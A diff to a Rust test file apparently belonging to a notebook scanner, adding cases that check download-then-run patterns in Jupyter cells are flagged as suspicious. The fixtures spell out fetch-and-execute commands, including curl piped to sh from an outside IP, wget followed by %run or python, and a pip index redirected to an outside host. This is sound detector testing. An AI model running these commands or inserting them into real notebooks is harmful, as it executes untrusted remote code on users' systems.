@@ -271,6 +271,20 @@ fn cells_as_ipython_reads_them() {
         let text = NOTEBOOK.replace("!curl", cell);
         assert!(outcome("a.ipynb", text.as_bytes()) >= Outcome::Suspicious, "{cell}");
     }
+    let run = |fetch: &str, run: &str| {
+        NOTEBOOK.replace("!curl http://198.51.100.7/x | sh", &format!("{fetch}\\n{run}\\n"))
+    };
+    for (fetch, then) in [
+        ("!wget https://example.org/x.py", "%run x.py"),
+        ("!wget https://example.org/x.py", "!python x.py"),
+        ("%env PIP_INDEX_URL=http://198.51.100.7/simple", "!pip install x"),
+    ] {
+        assert!(outcome("a.ipynb", run(fetch, then).as_bytes()) >= Outcome::Suspicious, "{fetch}");
+    }
+    assert_eq!(
+        outcome("a.ipynb", run("!wget https://example.org/x.csv", "%run x.py").as_bytes()),
+        Outcome::Clean
+    );
     let shown =
         NOTEBOOK.replace("!curl http://198.51.100.7/x | sh", ">>> import numpy\\n>>> numpy.zeros(3)\\n");
     assert_eq!(outcome("a.ipynb", shown.as_bytes()), Outcome::Clean);
